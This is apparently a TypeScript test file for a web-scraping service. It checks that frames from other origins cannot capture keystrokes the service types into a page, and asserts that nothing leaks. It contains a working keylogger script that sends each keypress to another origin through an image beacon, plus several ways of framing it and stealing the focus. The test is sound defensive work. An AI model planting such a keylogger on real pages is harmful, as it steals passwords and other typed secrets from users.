import { afterAll, assert, beforeAll, describe, it } from "@effect/vitest"
import { Duration, Effect, Exit, Scope } from "effect"
import { gleanerClient } from "../../../src/contract/client/index.ts"
import { overHttp } from "../../serving/mcp/mcp-client.ts"
import { keys, type RunningService, serviceOver } from "../../support/entries/service-process.ts"
import { type Json, json } from "../../support/shapes.ts"
import { siteHost, skipReason } from "./support/browser.ts"
import { page, startSite } from "./support/site.ts"

const secret = "tide-table-of-the-north-".repeat(6)

/** A document that sends each key that it gets to its own site. */
const thief = (other: string, moment: string) =>
  `<input id=t autofocus><script>
  const report = (what) => { new Image().src = "${other}/got?" + encodeURIComponent(what) }
  for (const name of ["keydown", "keypress", "keyup", "beforeinput", "input"]) {
    addEventListener(name, (event) => report(event.key || event.data || t.value), true)
  }
  onmessage = () => t.focus()
  if (${moment === "load"}) setInterval(() => t.focus(), 1)</script>`

/** Frames of another origin by their URL, which are not loaded, and of an origin of their own, which are. */
const frames: Readonly<Record<string, (other: string, moment: string) => string>> = {
  iframe: (other) => `<iframe class=thief src="${other}/"></iframe>`,
  sandboxed: (other, moment) =>
    `<iframe class=thief sandbox="allow-scripts" srcdoc="${thief(other, moment).replaceAll("\"", "&quot;")}"></iframe>`,
  rest: (other, moment) =>
    `<iframe src="/leave?${other}/"></iframe><object type="text/html" data="${other}/"></object>
    <embed type="text/html" src="${other}/">
    <iframe src="data:text/html,${encodeURIComponent(thief(other, moment))}"></iframe>`
}

/** The moments at which a frame gets the focus, as an attribute of the field. */
const moments: Readonly<Record<string, string>> = {
  load: "",
  focus: "onfocus=\"give()\"",
  first: "onkeydown=\"give()\"",
  later: "oninput=\"if (value.length >= 100) give()\""
}

const form = (framed: string, moment: string) =>
  page(`<h1>Tides</h1><input id=q ${moments[moment]}><p id=out></p>${framed}<script>
    const give = () => {
      const frame = document.querySelector(".thief")
      frame.focus()
      frame.contentWindow.focus()
      frame.contentWindow.postMessage(1, "*")
    }
    q.addEventListener("input", () => { out.textContent = "The field has " + q.value.length })
  </script>`)

const lost = /Step 1 of actions, type "#q", failed: the focus has moved from the field to <body>/
const away = "failed: the focus is in a frame of another origin, where no text is typed"

/** By page, the reason that ends its actions. Without one, all are performed. */
const pages: Readonly<Record<string, RegExp | undefined>> = {
  "/iframe/load": undefined,
  "/iframe/focus": lost,
  "/iframe/first": lost,
  "/iframe/later": lost,
  "/sandboxed/load": new RegExp(`Step 2 of actions, press, ${away}`),
  "/sandboxed/focus": new RegExp(`Step 1 of actions, type "#q", ${away}`),
  "/sandboxed/first": undefined,
  "/sandboxed/later": new RegExp(`Step 2 of actions, press, ${away}`),
  "/rest/load": new RegExp(`Step 2 of actions, press, ${away}`)
}

const scope = Scope.makeUnsafe()
const inScope = <A>(effect: Effect.Effect<A, never, Scope.Scope>) => Effect.runPromise(Scope.provide(effect, scope))

let site: Effect.Success<ReturnType<typeof startSite>>
let other: Effect.Success<ReturnType<typeof startSite>>
let service: RunningService
const stolen: Array<string> = []

beforeAll(async () => {
  other = await inScope(startSite({
    "/": page(thief("", "load")),
    "/got": (request, response) => {
      stolen.push(decodeURIComponent(request.url ?? ""))
      response.end()
    }
  }))
  const formAt = (path: string) => {
    const [, kind = "", moment = ""] = path.split("/")
    return form(frames[kind]?.(other.url, moment) ?? "", moment)
  }
  site = await inScope(startSite({
    "/leave": ({ url = "" }, response) => void response.writeHead(302, { location: url.split("?")[1] }).end(),
    ...Object.fromEntries(Object.keys(pages).map((path) => [path, formAt(path)]))
  }))
  const limit = Duration.minutes(5)
  service = await serviceOver({
    allowAddresses: [`${siteHost}/32`],
    // On a busy machine, a text of 145 keys takes long. No step here waits for what never comes.
    actionTimeout: limit,
    actionsTimeout: limit,
    renderTimeout: limit,
    requestTimeout: limit
  })
})
afterAll(async () => {
  await service.stop()
  await Effect.runPromise(Scope.close(scope, Exit.void))
})

const sent = [{ type: ["#q", secret] as const }, { press: "!" }]
/** The browser then loads pictures and frames for a scrape, too. */
const actions = [...sent, { screenshot: true as const }]

/** Nothing has reached another origin, and the answer about each page says why its actions ended. */
const check = (answers: ReadonlyArray<readonly [path: string, answer: string]>) => {
  assert.deepStrictEqual(stolen, [])
  assert.deepStrictEqual(other.asked, other.asked.filter((path) => path === "/robots.txt"))
  assert.deepStrictEqual(answers.map(([path]) => path).toSorted(), Object.keys(pages).toSorted())
  for (const [path, answer] of answers) {
    const why = pages[path]
    if (why === undefined) assert.notMatch(answer, /Step \d of actions/, path)
    else assert.match(answer, why, path)
    if (path === "/iframe/load") assert.include(answer, "Frames of other origins were not loaded")
    assert.notInclude(answer, "tide-table")
  }
}

const each = (visit: (url: string) => Promise<string>) =>
  Promise.all(Object.keys(pages).map(async (path) => [path, await visit(site.url + path)] as const))

describe.skipIf(skipReason !== "")(`frames that take the focus from a field get no key${skipReason}`, () => {
  it("of a scrape", async () => {
    check(
      await each(async (url) => {
        const document = await json(await service.call("/v1/scrape", { json: { url, actions } }))
        if (pages[new URL(url).pathname] === undefined) {
          assert.include(document["text"], `The field has ${secret.length + 1}`)
        }
        const { warnings } = document["trace"] as { readonly warnings: ReadonlyArray<{ readonly message: string }> }
        return warnings.map(({ message }) => message).join(" ")
      })
    )
  })

  it("of a screenshot", { tags: "long" }, async () => {
    check(
      await each(async (url) => {
        const shot = await service.call("/v1/screenshot", { json: { url, width: 320, height: 240, actions: sent } })
        assert.strictEqual(shot.status, 200)
        return shot.headers.get("page-warning") ?? ""
      })
    )
  })

  it("of a batch with pictures", { tags: "long" }, async () => {
    const client = gleanerClient({ baseUrl: service.url, apiKey: keys.first })
    const urls = Object.keys(pages).map((path) => site.url + path)
    const job = await client.batch({ urls, pictures: {}, actions: sent }).ended()
    const answers: Array<readonly [string, string]> = []
    for await (const { trace, url } of client.documents(job.id)) {
      answers.push([new URL(url).pathname, trace.warnings.map(({ message }) => message).join(" ")])
    }
    check(answers)
  })

  it("of an agent", { tags: "long" }, async () => {
    const agent = await overHttp(service, keys.first)
    check(
      await each(async (url) => {
        const { content } = await agent.callTool({ name: "interact", arguments: { url, actions } })
        return String((content as ReadonlyArray<Json>)[0]?.["text"])
      })
    )
    await agent.close()
  })
})
